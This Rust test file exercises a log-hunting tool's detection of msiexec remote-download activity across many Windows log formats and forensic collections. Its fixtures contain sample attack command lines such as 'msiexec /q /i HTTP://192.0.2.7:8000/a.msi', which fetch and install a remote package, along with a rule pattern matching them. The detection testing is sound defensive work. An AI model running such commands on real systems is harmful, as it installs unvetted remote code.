//! `gimlet hunt` and `gimlet drilldown` as a person runs them: the real binary on the demo, on real
//! logs where they are at hand, on collections and exports made on the spot.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::print_stderr,
    clippy::format_collect,
    clippy::too_many_lines,
    reason = "what goes wrong here must fail the test"
)]

mod made;

use made::generator::story::{Form, Log};
use made::packing;
use made::real::shared;
use serde_json::Value as Json;
use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

fn gimlet() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_gimlet"));
    command.env_clear().stdin(Stdio::null());
    command
}

fn run<S: AsRef<OsStr>>(arguments: impl IntoIterator<Item = S>) -> Output {
    gimlet().args(arguments).output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

fn rows(output: &Output) -> Vec<Json> {
    let lines = text(&output.stdout);
    lines
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// Rows, ledger and exit status of a hunt.
fn hunt(path: &Path, more: &[&str]) -> (String, Json, i32) {
    let folder = tempfile::tempdir().unwrap();
    let ledger = folder.path().join("ledger.json");
    let output = gimlet()
        .args(["hunt", "--format", "ndjson", "--ledger"])
        .arg(&ledger)
        .args(more)
        .arg(path)
        .output()
        .unwrap();
    let ledger = serde_json::from_slice(&std::fs::read(ledger).unwrap()).unwrap();
    (text(&output.stdout), ledger, output.status.code().unwrap())
}

fn check_sums(ledger: &Json) {
    let number = |of: &Json, name: &str| of[name].as_u64().unwrap();
    let mut sums: BTreeMap<&str, u64> = BTreeMap::new();
    for file in ledger["files"].as_array().unwrap() {
        let parts = ["creations", "out_of_scope", "passed_over", "bad_total"];
        let accounted: u64 = parts.iter().map(|part| number(file, part)).sum();
        assert_eq!(number(file, "records"), accounted, "{file}");
        for name in [
            "records",
            "creations",
            "out_of_scope",
            "duplicates",
            "bytes",
        ] {
            *sums.entry(name).or_default() += number(file, name);
        }
    }
    let totals = &ledger["totals"];
    for (name, sum) in sums {
        assert_eq!(number(totals, name), sum, "{name}");
    }
    let hosts = ledger["hosts"].as_array().unwrap();
    let once: u64 = hosts.iter().map(|host| number(host, "creations")).sum();
    assert_eq!(
        once + number(totals, "duplicates"),
        number(totals, "creations")
    );
}

#[test]
fn real_logs_give_exactly_the_expected_rows() {
    let Some(root) = shared() else { return };
    let (found, ledger, status) = hunt(&root.join("data"), &[]);
    let expected = std::fs::read_to_string(root.join("expected.jsonl")).unwrap();
    let mut expected: Vec<(String, String)> = expected
        .lines()
        .map(|line| serde_json::from_str::<Json>(line).unwrap())
        .filter(|event| event["match"] == true)
        .map(|event| {
            let user = event["user"].as_str().unwrap().to_owned();
            // The collector escapes quotes inside a value; the list keeps them so.
            (
                user,
                event["cmd"].as_str().unwrap().trim().replace("\\\"", "\""),
            )
        })
        .collect();
    expected.sort();
    let found: Vec<Json> = found
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(found.len(), expected.len());
    for (user, command_line) in expected {
        let same = |row: &&Json| {
            let (row_user, process) = (row["user"].as_str().unwrap(), row["process"].as_str());
            user.ends_with(row_user) && process.unwrap().ends_with(&command_line)
        };
        assert_eq!(
            found.iter().filter(same).count(),
            1,
            "{user}: {command_line}"
        );
    }
    check_sums(&ledger);
    let files = ledger["files"].as_array().unwrap();
    let manifest = std::fs::read_to_string(root.join("manifest.csv")).unwrap();
    assert_eq!(
        files.len(),
        manifest.lines().count() - 1,
        "every file has its line"
    );
    assert_eq!(ledger["complete"], true);
    assert_eq!(status, 3, "some of the real logs are damaged");
}

fn demo() -> PathBuf {
    made::fixture("atomic")
}

fn expected(name: &str) -> String {
    std::fs::read_to_string(made::fixture("atomic-expected").join(name)).unwrap()
}

#[test]
fn the_demo_gives_exactly_the_rows_listed_beside_it() {
    let (found, ledger, status) = hunt(&demo(), &[]);
    assert_eq!(found, expected("rows.ndjson"));
    assert_eq!(status, 3, "one record of the demo is cut off");
    check_sums(&ledger);
    let (again, ..) = hunt(&demo(), &[]);
    assert_eq!(found, again, "two runs are byte-identical");
    let (covered, of_coverage, _) = hunt(&demo(), &["--coverage"]);
    assert_eq!(found, covered, "the coverage agrees with the hunt");
    check_sums(&of_coverage);
    assert_eq!(
        of_coverage["totals"]["records"],
        ledger["totals"]["records"]
    );
    assert_eq!(of_coverage["totals"]["passed_over"], 0);
    let passed_over = ledger["totals"]["passed_over"].as_u64().unwrap();
    assert!(passed_over > 5000, "{passed_over}");
    let whole = hunt(&demo(), &["--no-prefilter"]);
    assert_eq!(whole.0, found);
    assert_eq!(whole.1["totals"], of_coverage["totals"]);
}

#[test]
fn the_demo_ledger_counts_what_the_story_put_in() {
    let (_, ledger, _) = hunt(&demo(), &["--coverage"]);
    let story: toml::Table = expected("EXPECTED.toml").parse().unwrap();
    let files: BTreeMap<String, &Json> = ledger["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|file| {
            let path = file["path"].as_str().unwrap();
            (path.split_once("atomic/").unwrap().1.to_owned(), file)
        })
        .collect();
    let (mut compared, mut gaps_found) = (0, 0);
    for file in story["file"].as_array().unwrap() {
        let path = file["path"].as_str().unwrap();
        let found = files[path];
        if path.starts_with("risk/") {
            assert_eq!(found["status"], "not evidence");
            continue;
        }
        for (ours, theirs) in [
            ("records", "records"),
            ("creations", "creations"),
            ("with_command_line", "with_command_line"),
            ("duplicates", "duplicates"),
            ("bad_total", "bad"),
        ] {
            let wanted = file[theirs].as_integer().unwrap();
            // What the story counts as records are those that are whole.
            let bad = if ours == "records" {
                file["bad"].as_integer().unwrap()
            } else {
                0
            };
            let number = found[ours].as_i64().unwrap();
            assert!(
                number == wanted || number == wanted + bad,
                "{path} {ours}: {number}"
            );
        }
        let gap = |gap: &toml::Value| {
            let id = |name: &str| gap[name].as_integer().unwrap();
            format!("{}-{}", id("after") + 1, id("next") - 1)
        };
        let gaps: Vec<String> = file["gaps"].as_array().unwrap().iter().map(gap).collect();
        gaps_found += gaps.len();
        assert_eq!(found["gaps"], serde_json::json!(gaps), "{path}");
        compared += 1;
    }
    assert_eq!((compared, gaps_found), (19, 1));
    let hosts = story["host"].as_array().unwrap();
    let with = hosts
        .iter()
        .filter(|host| host["creations"].as_integer() > Some(0))
        .count();
    assert_eq!(ledger["totals"]["hosts"], hosts.len());
    assert_eq!(ledger["totals"]["hosts_with_creations"], with);
}

#[test]
fn both_drilldowns_of_the_demo_are_those_of_the_story() {
    let story: toml::Table = expected("EXPECTED.toml").parse().unwrap();
    let all: Vec<String> = expected("rows.ndjson").lines().map(str::to_owned).collect();
    let risk = demo().join("risk/risk-index-export.ndjson");
    for case in story["drilldown"].as_array().unwrap() {
        let (user, dest) = (
            case["user"].as_str().unwrap(),
            case["dest"].as_str().unwrap(),
        );
        let drill = |which: &str, more: &[&OsStr]| {
            let arguments = ["drilldown", which, "--user", user, "--dest", dest];
            gimlet()
                .args(arguments)
                .args(more)
                .arg(demo())
                .output()
                .unwrap()
        };
        let results = text(&drill("results", &[]).stdout);
        let wanted: String = case["results"]
            .as_array()
            .unwrap()
            .iter()
            .map(|row| {
                format!(
                    "{}\n",
                    all[usize::try_from(row.as_integer().unwrap() - 1).unwrap()]
                )
            })
            .collect();
        assert_eq!(results, wanted, "{user} {dest}");
        let found = rows(&drill("risk", &["--risk-events".as_ref(), risk.as_ref()]));
        let wanted = case["risk"].as_array().unwrap();
        assert_eq!(found.len(), wanted.len(), "{user} {dest}");
        for (found, wanted) in found.iter().zip(wanted) {
            for (name, value) in wanted.as_table().unwrap() {
                let value = serde_json::to_value(value).unwrap();
                // One value of a multivalue field is a plain text.
                let value = match value.as_array().map(Vec::as_slice) {
                    Some([one]) => one.clone(),
                    _ => value,
                };
                if name != "sum_of_scores" {
                    assert_eq!(found[name], value, "{user} {dest} {name}");
                }
            }
        }
    }
}

#[test]
fn the_resolved_search_and_both_bounds_are_shown() {
    let output = gimlet()
        .args([
            "drilldown",
            "risk",
            "--user",
            "iis-app",
            "--dest",
            "web-02.corp.example",
        ])
        .args(["--at", "2022-06-14T02:13:40Z", "--show-search"])
        .arg(demo())
        .output()
        .unwrap();
    let said = text(&output.stderr);
    assert!(
        said.contains(r#"normalized_risk_object IN ("iis-app", "web-02.corp.example")"#),
        "{said}"
    );
    assert!(
        said.contains("earliest 2022-06-07T02:13:40Z, latest 2022-06-14T02:13:40Z"),
        "{said}"
    );
    let output = run(["drilldown", "risk", "--user", "x", "/nowhere"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        text(&output.stderr).contains("--dest"),
        "{}",
        text(&output.stderr)
    );
}

/// Bounds and offsets count from all creations, those too that the rule does not look for.
#[test]
fn a_drilldown_is_the_same_without_the_prefilter() {
    for which in ["results", "risk"] {
        let ask = |more: &[&str]| {
            let output = gimlet()
                .args(["drilldown", which, "--user", "nobody", "--dest", "nowhere"])
                .args(["--format", "json"])
                .args(more)
                .arg(demo())
                .output()
                .unwrap();
            text(&output.stdout)
        };
        let found = ask(&[]);
        assert!(found.contains("earliest"), "{found}");
        assert_eq!(found, ask(&["--no-prefilter"]), "{which}");
    }
}

#[test]
fn a_kape_tree_is_read_as_it_lies() {
    let folder = tempfile::tempdir().unwrap();
    let contents = made::collections::kape(folder.path());
    let (found, ledger, status) = hunt(folder.path(), &["--coverage"]);
    assert_eq!(found, contents.rows_text);
    assert_eq!(
        status, 0,
        "hives and the tool's own logs are no evidence and no problem"
    );
    check_sums(&ledger);
    assert_eq!(ledger["totals"]["duplicates"], contents.duplicates);
    let hosts: Vec<&str> = ledger["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["host"].as_str().unwrap())
        .collect();
    for host in &contents.hosts {
        assert!(hosts.contains(&host.as_str()), "{host} in {hosts:?}");
    }
    let not_evidence = ledger["totals"]["files_not_evidence"].as_u64().unwrap();
    assert_eq!(
        usize::try_from(not_evidence).unwrap(),
        contents.others.len()
    );
}

#[test]
fn a_velociraptor_zip_is_read_with_the_zip_inside() {
    let folder = tempfile::tempdir().unwrap();
    let (bytes, contents) = made::collections::velociraptor();
    let zip = folder.path().join("Collection-web-02.zip");
    std::fs::write(&zip, bytes).unwrap();
    let (found, ledger, status) = hunt(&zip, &[]);
    assert_eq!(found, contents.rows_text);
    assert_eq!(status, 0);
    check_sums(&ledger);
    let shown: Vec<(&str, &str)> = ledger["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|file| Some((file["member"].as_str()?, file["shown"].as_str()?)))
        .collect();
    let sysmon = shown
        .iter()
        .find(|(member, _)| member.contains("Sysmon"))
        .unwrap();
    assert!(sysmon.0.ends_with(
        "C%3A/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%254Operational.evtx"
    ));
    assert!(
        sysmon.1.ends_with(
            "C:/Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx"
        )
    );
}

/// One event log in every form and packing gives the rows of the log itself.
#[test]
fn every_form_and_packing_gives_the_same_rows() {
    let events = made::intrusion_events(Log::Sysmon);
    let folder = tempfile::tempdir().unwrap();
    let name = |file: &str| folder.path().join(file);
    std::fs::write(
        name("log.evtx"),
        made::evtx_file::file(&events, made::evtx_file::Damage::default()),
    )
    .unwrap();
    let (whole, ..) = hunt(&name("log.evtx"), &[]);
    assert_eq!(whole.lines().count(), 3, "{whole}");
    let lines = made::exports::events_on_one_line(&events);
    let member = |bytes: &[u8]| ("logs/x.log".to_owned(), bytes.to_vec());
    let inner = packing::zip(&[member(&lines)]);
    let forms: [(&str, Vec<u8>); 14] = [
        ("utf16.xml", made::exports::utf16_wevtutil(&events)),
        ("element.xml", made::exports::events_element(&events)),
        ("lines.xml", lines.clone()),
        ("syslog.log", made::exports::syslog_xml(&events)),
        ("result.json", made::exports::splunk_json(&events)),
        ("raw.json", made::exports::splunk_raw_json(&events)),
        ("export.csv", made::exports::splunk_csv(&events)),
        (
            "velociraptor.json",
            made::exports::velociraptor_json(&events),
        ),
        ("lines.log.1.gz", packing::gz(&lines)),
        ("two.gz", packing::gz_of_two_streams(&lines)),
        ("lines.zst", packing::zst(&lines)),
        ("logs.tar", packing::tar(&[member(&lines)])),
        ("logs.tgz", packing::tar_gz(&[member(&lines)])),
        (
            "nested.zip",
            packing::zip(&[("inner.zip".to_owned(), inner)]),
        ),
    ];
    for (file, bytes) in forms {
        std::fs::write(name(file), bytes).unwrap();
        let (found, ledger, status) = hunt(&name(file), &[]);
        // Velociraptor keeps no attributes of an event's `Security` element.
        let same = |text: &str| text.replace("\"user_id\":\"S-1-5-18\"", "\"user_id\":\"null\"");
        assert_eq!(same(&found), same(&whole), "{file}");
        assert_eq!(status, 0, "{file}: {ledger}");
    }
    let (all, ledger, _) = hunt(folder.path(), &[]);
    let same = |text: &str| text.replace("\"user_id\":\"S-1-5-18\"", "\"user_id\":\"null\"");
    assert_eq!(
        same(&all),
        same(&whole),
        "the same event fifteen times counts once"
    );
    let creations = ledger["totals"]["creations"].as_u64().unwrap();
    let once: u64 = ledger["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["creations"].as_u64().unwrap())
        .sum();
    assert_eq!(creations, once * 15);
    let (kept, ..) = hunt(folder.path(), &["--keep-duplicates"]);
    let count = |row: &str| {
        serde_json::from_str::<Json>(row).unwrap()["count"]
            .as_u64()
            .unwrap()
    };
    assert_eq!(kept.lines().map(count).sum::<u64>(), 3 * 15);
}

#[test]
fn standard_input_is_evidence_like_any_other() {
    let events = made::intrusion_events(Log::Security);
    let bytes = made::exports::events_on_one_line(&events);
    let folder = tempfile::tempdir().unwrap();
    let side = folder.path().join("events.ndjson");
    let mut child = gimlet()
        .args(["hunt", "--events"])
        .arg(&side)
        .arg("-")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&bytes).unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    let found = rows(&output);
    assert!(!found.is_empty());
    let events: Vec<Json> = std::fs::read_to_string(side)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(events.len(), found.len());
    assert!(events[0]["raw"].as_str().unwrap().contains("<Event"));
    assert_eq!(events[0]["event_id"], 4688);
}

#[test]
fn the_events_behind_the_rows_are_written_with_their_places() {
    let folder = tempfile::tempdir().unwrap();
    let side = folder.path().join("events.ndjson");
    let output = gimlet()
        .args(["hunt", "--events"])
        .arg(&side)
        .arg(demo())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(3));
    let events: Vec<Json> = std::fs::read_to_string(&side)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(events.len(), 265);
    for event in &events {
        assert_eq!(event["sha256"].as_str().unwrap().len(), 64);
        assert!(
            event["raw"]
                .as_str()
                .unwrap()
                .to_lowercase()
                .contains("http")
        );
        assert!(event["time"].as_str().unwrap().ends_with('Z'));
    }
    assert!(
        events
            .iter()
            .any(|event| !event["also_in"].as_array().unwrap().is_empty())
    );
}

#[test]
fn exit_statuses_say_what_was_read() {
    let status = |arguments: &[&OsStr]| run(arguments).status.code();
    let folder = tempfile::tempdir().unwrap();
    let events = made::intrusion_events(Log::Sysmon);
    let log = folder.path().join("log.xml");
    std::fs::write(&log, made::exports::events_element(&events)).unwrap();
    let nowhere = folder.path().join("nowhere");
    let (hunt, log, nowhere) = ("hunt".as_ref(), log.as_os_str(), nowhere.as_os_str());
    assert_eq!(status(&[hunt, log]), Some(0));
    assert_eq!(status(&[hunt, "--fail-on-rows".as_ref(), log]), Some(1));
    assert_eq!(status(&[hunt, nowhere]), Some(2));
    assert_eq!(status(&[hunt, log, nowhere]), Some(3));
    assert_eq!(status(&[hunt]), Some(2));
    assert_eq!(
        status(&[hunt, "--since".as_ref(), "yesterday".as_ref(), log]),
        Some(2)
    );
    let packed = folder.path().join("other.7z");
    std::fs::write(&packed, b"7z\xbc\xaf\x27\x1c\0\x04").unwrap();
    let output = run([hunt, folder.path().as_os_str()]);
    assert_eq!(output.status.code(), Some(3));
    assert!(
        text(&output.stderr).contains("other.7z"),
        "{}",
        text(&output.stderr)
    );
}

#[test]
fn a_closed_pipe_is_success() {
    let mut child = gimlet()
        .arg("hunt")
        .arg(demo())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
    assert!(!text(&output.stderr).contains("pipe"));
}

#[test]
fn bounds_are_inclusive_below_and_exclusive_above() {
    let times = |more: &[&str]| -> Vec<String> {
        let (found, ..) = hunt(&demo(), more);
        let time = |row: &str| serde_json::from_str::<Json>(row).unwrap()["firstTime"].clone();
        found
            .lines()
            .map(|row| time(row).as_str().unwrap().to_owned())
            .collect()
    };
    let all = times(&[]);
    let within = times(&["--since", "2022-06-14", "--until", "2022-06-15"]);
    let wanted = all
        .iter()
        .filter(|time| time.starts_with("2022-06-14"))
        .count();
    assert_eq!(within.len(), wanted);
    assert!(wanted > 5);
}

#[test]
fn a_filter_macro_of_ones_own_is_honoured_and_named() {
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("macros.conf");
    let stanza = "[windows_msiexec_remote_download_filter]\n\
                  definition = search NOT (parent_process_name=\"CcmExec.exe\" process=\"*SERVER=*\")\n";
    std::fs::write(&file, stanza).unwrap();
    let (found, ledger, _) = hunt(&demo(), &["--macros", file.to_str().unwrap()]);
    let (all, ..) = hunt(&demo(), &[]);
    assert!(found.lines().count() > 10 && found.lines().count() < all.lines().count());
    assert!(!found.contains("SERVER="));
    assert_eq!(
        ledger["macro_overrides"][0]["name"],
        "windows_msiexec_remote_download_filter"
    );
    assert_eq!(ledger["macro_overrides"][0]["file"], file.to_str().unwrap());
    let shown = gimlet()
        .args(["hunt", "--show-search", "--macros"])
        .args([file.as_os_str(), demo().as_os_str()])
        .output()
        .unwrap();
    assert!(
        text(&shown.stderr).contains("macros.conf"),
        "{}",
        text(&shown.stderr)
    );
}

#[test]
fn a_rule_that_cannot_run_says_which_part() {
    let folder = tempfile::tempdir().unwrap();
    let rule = folder.path().join("rule.yml");
    let built_in = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("assets/rules/windows_msiexec_remote_download.yml"),
    )
    .unwrap();
    let broken = built_in.replace("| `drop_dm_object_name(Processes)`", "| geostats dest");
    std::fs::write(&rule, broken).unwrap();
    let output = gimlet()
        .args(["hunt", "--rule"])
        .arg(&rule)
        .arg(demo())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let said = text(&output.stderr);
    assert!(said.contains("geostats") && said.contains("^^^^"), "{said}");
    assert!(said.contains("rule.yml:32"), "{said}");
}

/// The forms that real logs of are public: the NVM line and the flat Sysmon events.
#[test]
fn nvm_and_flat_sysmon_go_through() {
    let folder = tempfile::tempdir().unwrap();
    let flat = r#"[{"Image":"C:\\Windows\\System32\\msiexec.exe","ProcessGuid":"{00000000-0000-0000-0000-000000000001}",
        "ProcessId":"77","UtcTime":"2022-06-14 02:11:07.100","EventId":1,"User":"LAB\\alice",
        "CommandLine":"msiexec /q /i HTTP://192.0.2.7:8000/a.msi","ParentImage":"C:\\Python27\\python.exe"}]"#;
    std::fs::write(folder.path().join("flat.json"), flat).unwrap();
    let (found, ..) = hunt(folder.path(), &[]);
    let row: Json = serde_json::from_str(found.trim()).unwrap();
    assert_eq!(row["user"], "alice");
    assert_eq!(row["process_name"], "msiexec.exe");
    let host = "win-dc-447.attackrange.local";
    let nvm = made::story_file("nvm.log", Form::NvmText, host, &[], ["", ""]);
    let collected = made::generator::collect(&[nvm]).unwrap();
    std::fs::write(folder.path().join("flat.json"), &collected.files[0].plain).unwrap();
    let (found, ..) = hunt(folder.path(), &[]);
    assert_eq!(found, collected.rows_text);
    assert!(found.contains("192.0.2.140"));
}

/// A rule that asks for a host, whose name stands behind the event that needs it: from a file and
/// from a stream, which can't be read twice.
#[test]
fn a_host_name_may_come_after_the_events_that_are_tested_for_it() {
    let folder = tempfile::tempdir().unwrap();
    let name = |file: &str| folder.path().join(file);
    let rule = "name: Of one host\nid: 1\nversion: 1\ntype: Hunting\nstatus: production\n\
        description: x\nsearch: '| tstats count from datamodel=Endpoint.Processes where \
        Processes.dest=\"late-host\" Processes.process=\"*http://*\" by Processes.dest'\n";
    std::fs::write(name("rule.yml"), rule).unwrap();
    let event = |aid: &str| {
        format!(
            "{{\"event_simpleName\":\"ProcessRollup2\",\"event_platform\":\"Win\",\"aid\":\"{aid}\",\
             \"cid\":\"c\",\"timestamp\":\"1655402652000\",\"CommandLine\":\"msiexec /i http://x.example\",\
             \"ImageFileName\":\"\\\\Device\\\\HarddiskVolume3\\\\msiexec.exe\",\"TargetProcessId\":\"5\"}}\n"
        )
    };
    let named = "{\"aid\":\"a1\",\"ComputerName\":\"late-host\",\"Time\":\"1655402600\"}\n";
    let log = event("a1") + &event("a2") + named;
    std::fs::write(name("log.json"), &log).unwrap();
    let expected = "{\"Processes.dest\":\"late-host\",\"count\":1}\n";
    let (found, ..) = hunt(
        &name("log.json"),
        &["--rule", name("rule.yml").to_str().unwrap()],
    );
    assert_eq!(found, expected);
    let mut child = gimlet()
        .args(["hunt", "--rule"])
        .args([name("rule.yml").as_os_str(), "-".as_ref()])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(log.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(text(&output.stdout), expected);
    assert!(
        text(&output.stderr).contains("1 row (1 event)"),
        "{}",
        text(&output.stderr)
    );
}

#[test]
fn a_wrong_sort_is_told_before_anything_is_written() {
    let folder = tempfile::tempdir().unwrap();
    let ledger = folder.path().join("ledger.json");
    let output = gimlet()
        .args(["hunt", "--sort", "colour", "--ledger"])
        .args([ledger.as_os_str(), demo().as_os_str()])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(
        text(&output.stderr).contains("'colour'"),
        "{}",
        text(&output.stderr)
    );
    assert!(!ledger.exists());
}

#[test]
fn an_empty_log_is_no_error_and_problems_name_what_to_do() {
    let folder = tempfile::tempdir().unwrap();
    let name = |file: &str| folder.path().join(file);
    std::fs::write(name("empty.log"), b"").unwrap();
    assert_eq!(
        run(["hunt".as_ref(), name("empty.log").as_os_str()])
            .status
            .code(),
        Some(0)
    );
    assert_eq!(run(["hunt", "-"]).status.code(), Some(0));
    std::fs::write(name("a.7z"), b"7z\xbc\xaf\x27\x1c\0\x04").unwrap();
    std::fs::write(name("plain.txt"), b"hello").unwrap();
    let said = |file: &str| text(&run(["hunt".as_ref(), name(file).as_os_str()]).stderr);
    assert!(said("a.7z").contains("a.7z': 7z archive, which is not opened; unpack it"));
    assert!(said("plain.txt").contains("plain.txt': not evidence, text"));
    assert!(said("nowhere").contains("nowhere': not opened; can't be opened: No such file"));
}

#[test]
fn what_gimlet_wrote_is_no_evidence_but_for_rows() {
    let folder = tempfile::tempdir().unwrap();
    let name = |file: &str| folder.path().join(file);
    let log = demo().join("web-02/security.xml.zst");
    let output = gimlet()
        .args(["hunt", "-q", "--events"])
        .arg(name("events.ndjson"))
        .arg("--ledger")
        .arg(name("ledger.json"))
        .arg(&log)
        .output()
        .unwrap();
    std::fs::write(name("rows.ndjson"), &output.stdout).unwrap();
    assert!(output.stdout.len() > 1000);
    // Events and ledger are copies and accounts; rows are those of a result, as Splunk's are.
    let again = run(["hunt".as_ref(), folder.path().as_os_str()]);
    assert_eq!(text(&again.stdout), text(&output.stdout));
    let (_, ledger, _) = hunt(folder.path(), &[]);
    assert_eq!(ledger["totals"]["files_not_evidence"], 2);
    let rows = text(&output.stdout).lines().count();
    assert_eq!(ledger["totals"]["records"], rows);
}

#[test]
fn the_workbench_is_not_drawn_into_a_pipe() {
    let output = run(["demo"]);
    assert_eq!(output.status.code(), Some(2));
    assert_eq!(text(&output.stdout), "");
    assert!(
        text(&output.stderr).contains("gimlet hunt"),
        "{}",
        text(&output.stderr)
    );
}
